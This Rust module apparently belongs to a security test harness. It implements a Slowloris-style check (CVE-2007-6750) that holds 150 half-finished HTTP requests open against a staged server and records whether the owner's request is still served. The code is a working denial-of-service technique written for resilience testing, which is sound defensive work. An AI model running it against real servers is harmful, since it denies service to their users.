//! Clients that never finish a request.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::AsyncWriteExt;
use tokio::time::timeout;

use crate::attack::{
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "slow-clients",
    title: "Clients that never finish a request",
    has: "a few hundred connections",
    does: "sends the beginning of a request on each, and then nothing",
    gains: "all places of the server, and nobody else gets one",
    source: "CVE-2007-6750 (Slowloris); F133",
    expected: Expected::EVERYWHERE,
    needs: Needs::Quiet,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    const CLIENTS: usize = 150;
    let owner = stage.person("owner");
    let held = stage.target.welcome(&owner).await?;
    let target = &stage.target;
    let slow = (0..CLIENTS).map(|_| async {
        let mut stream = timeout(Duration::from_secs(2), target.http.open(&target.site, None)).await.ok()?.ok()?;
        stream.write_all(b"GET /v1/verify HTTP/1.1\r\nhost: x\r\nx-slow: ").await.ok()?;
        stream.flush().await.ok()?;
        Some(stream)
    });
    let held_open = join_all(slow).await;
    let served = timeout(Duration::from_secs(2), target.verify(&held)).await;
    drop(held_open);
    Ok(match served {
        Ok(Ok(answer)) if answer.is_ok() => Found::Refused(format!(
            "beside {CLIENTS} slow clients an answer took {:.0} ms",
            answer.took.as_secs_f64() * 1000.0
        )),
        Ok(Ok(answer)) => {
            Found::Worked(format!("beside {CLIENTS} slow clients the owner was answered {}", answer.said()))
        }
        Ok(Err(trouble)) => Found::Worked(format!("beside {CLIENTS} slow clients: {trouble}")),
        Err(_) => Found::Worked(format!("beside {CLIENTS} slow clients the owner got no answer in 2 s")),
    })
}
